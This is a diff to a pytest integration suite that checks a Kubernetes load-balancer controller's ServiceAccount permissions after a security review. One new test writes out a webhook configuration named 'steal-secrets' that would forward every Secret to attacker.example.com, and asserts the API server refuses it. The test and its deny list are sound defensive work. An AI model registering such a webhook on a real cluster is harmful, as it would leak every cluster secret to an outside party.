@@ -7,14 +7,19 @@ service-account signing key), and a kubeconfig carrying only that token is what 
 gets. Then:
 
 * the API server authorizes the ServiceAccount for every call the controller makes and refuses
-  it everything around that (SubjectAccessReviews, and a real request as the ServiceAccount);
+  it everything around that (SubjectAccessReviews, and a real request as the ServiceAccount):
+  above all any write to webhook configurations (S7 of the security review: a stolen token
+  cannot register a webhook that receives every Secret), and Nodes unless the address-mode
+  component's RBAC (``deploy/components/address-mode``) is applied too;
 * the seed's Redis scenario runs end to end as the ServiceAccount, under leader election on the
   Lease ``dklb/dklb``, in both backend modes (``address`` also watches Nodes): the Service gets
-  its ingress, traffic flows through the pool's frontend, the Lease names the controller,
+  its ingress, traffic flows through the pool's frontend (``address``: with the component's RBAC),
+  the Lease names the controller,
   deleting the Service deletes the pool and releases the finalizer, SIGTERM releases the Lease,
   and the controller's log holds no 403 / Forbidden;
-* the rest of ``deploy/`` (the claim and the Deployment) is accepted by the API server as
-  written, nothing dropped (server-side dry run).
+* the rest of ``deploy/`` (the claim, the NetworkPolicy, the webhook's Service and its static
+  configurations, the Deployment) is accepted by the API server as written, nothing dropped
+  (server-side dry run).
 
 Everything created is removed again (processes by PID, Services with their finalizers
 stripped, the Lease, the RBAC objects, the namespaces), even when a step fails.
@@ -70,6 +75,18 @@ KINDS = {
     "Role": ("/apis/rbac.authorization.k8s.io/v1", "roles", True),
     "RoleBinding": ("/apis/rbac.authorization.k8s.io/v1", "rolebindings", True),
     "Deployment": ("/apis/apps/v1", "deployments", True),
+    "Service": ("/api/v1", "services", True),
+    "NetworkPolicy": ("/apis/networking.k8s.io/v1", "networkpolicies", True),
+    "MutatingWebhookConfiguration": (
+        "/apis/admissionregistration.k8s.io/v1",
+        "mutatingwebhookconfigurations",
+        False,
+    ),
+    "ValidatingWebhookConfiguration": (
+        "/apis/admissionregistration.k8s.io/v1",
+        "validatingwebhookconfigurations",
+        False,
+    ),
 }
 
 
@@ -281,6 +298,14 @@ def review(rest: Rest, verb: str, group: str, resource: str, namespace: str, nam
 
 RBAC = "rbac.authorization.k8s.io"
 COORDINATION = "coordination.k8s.io"
+ADMISSION = "admissionregistration.k8s.io"
+# What a stolen controller token would need to intercept every admitted object (S7).
+WEBHOOK_WRITES = [
+    (verb, ADMISSION, resource, "", name)
+    for resource in ("mutatingwebhookconfigurations", "validatingwebhookconfigurations")
+    for verb, name in (("create", ""), ("get", "dklb"), ("update", "dklb"), ("update", "other"))
+]
+NODE_READS = [("list", "", "nodes", "", ""), ("watch", "", "nodes", "", "")]
 # (verb, API group, resource[/subresource], namespace, name); "" = the core group, all namespaces,
 # any name. "any" stands for any namespace a Service may be in.
 ALLOWED = [
@@ -291,8 +316,6 @@ ALLOWED = [
     ("patch", "", "services/status", "any", "redis"),
     ("create", "", "events", "any", ""),
     ("patch", "", "events", "any", "redis.16a4"),
-    ("list", "", "nodes", "", ""),
-    ("watch", "", "nodes", "", ""),
     ("create", COORDINATION, "leases", NAMESPACE, ""),
     ("get", COORDINATION, "leases", NAMESPACE, LEASE),
     ("update", COORDINATION, "leases", NAMESPACE, LEASE),
@@ -308,6 +331,9 @@ DENIED = [
     ("list", "", "configmaps", "", ""),
     ("list", "", "pods", "", ""),
     ("list", "", "endpoints", "", ""),
+    # S7 (security review): nothing about admission, and Nodes only with the address-mode component.
+    *WEBHOOK_WRITES,
+    *NODE_READS,
     ("get", "", "nodes", "", "node-1"),
     ("patch", "", "nodes", "", "node-1"),
     ("patch", "", "nodes/status", "", "node-1"),
@@ -348,8 +374,39 @@ def test_a_request_outside_the_role_is_forbidden_for_the_service_account(install
     assert status == 403, answer
 
 
-def test_the_claim_and_the_deployment_are_accepted_as_written(installed: Installed) -> None:
-    for name in ("pvc.yaml", "deployment.yaml"):
+def test_the_service_account_cannot_register_a_webhook(installed: Installed) -> None:
+    """S7 (security review): with the controller's token, try what an attacker would: register a
+    webhook that receives every Secret. The API server refuses it."""
+    hook = {
+        "apiVersion": "admissionregistration.k8s.io/v1",
+        "kind": "ValidatingWebhookConfiguration",
+        "metadata": {"name": "steal-secrets"},
+        "webhooks": [
+            {
+                "name": "steal.example.com",
+                "clientConfig": {"url": "https://attacker.example.com/"},
+                "rules": [
+                    {
+                        "apiGroups": [""],
+                        "apiVersions": ["v1"],
+                        "operations": ["CREATE", "UPDATE"],
+                        "resources": ["secrets"],
+                    }
+                ],
+                "sideEffects": "None",
+                "admissionReviewVersions": ["v1"],
+                "failurePolicy": "Ignore",
+            }
+        ],
+    }
+    path = "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations"
+    status, answer = installed.account.call("POST", path, hook)
+    assert status == 403, answer
+    assert installed.admin.call("GET", f"{path}/steal-secrets")[0] == 404
+
+
+def test_the_claim_the_deployment_and_the_rest_are_accepted_as_written(installed: Installed) -> None:
+    for name in ("pvc.yaml", "networkpolicy.yaml", "webhook.yaml", "deployment.yaml"):
         for obj in load(name):
             stored = installed.admin.ok("POST", collection(obj), obj, {"dryRun": "All"})
             assert dropped(obj, stored) == [], f"{name}: fields the API server dropped or changed"
@@ -419,8 +476,35 @@ def namespace(installed: Installed) -> Iterator[str]:
 
 
 @pytest.fixture
-def node(installed: Installed) -> Iterator[str]:
-    """A Ready Node at 127.0.0.1 (no kubelet here: the admin writes it), for the address mode."""
+def address_mode_rbac(installed: Installed) -> Iterator[None]:
+    """components/address-mode's RBAC, applied as written (and removed afterwards)."""
+    created = [
+        (obj, installed.admin.ok("POST", collection(obj), obj))
+        for obj in load("components/address-mode/rbac.yaml")
+    ]
+    try:
+        for obj, stored in created:
+            assert dropped(obj, stored) == [], obj["kind"]
+        yield
+    finally:
+        with contextlib.ExitStack() as cleanup:
+            for obj, _ in created:
+                cleanup.callback(installed.admin.delete, object_path(obj))
+
+
+def test_the_address_mode_component_grants_node_reads_and_nothing_more(
+    installed: Installed, address_mode_rbac: None
+) -> None:
+    refused = [access for access in NODE_READS if not review(installed.admin, *access)]
+    assert refused == []
+    others = [access for access in DENIED if access not in NODE_READS]
+    assert [access for access in others if review(installed.admin, *access)] == []
+
+
+@pytest.fixture
+def node(installed: Installed, address_mode_rbac: None) -> Iterator[str]:
+    """A Ready Node at 127.0.0.1 (no kubelet here: the admin writes it), for the address mode,
+    with the RBAC of components/address-mode that lets the controller watch it."""
     name = f"node-{uuid.uuid4().hex[:6]}"
     body = {
         "apiVersion": "v1",
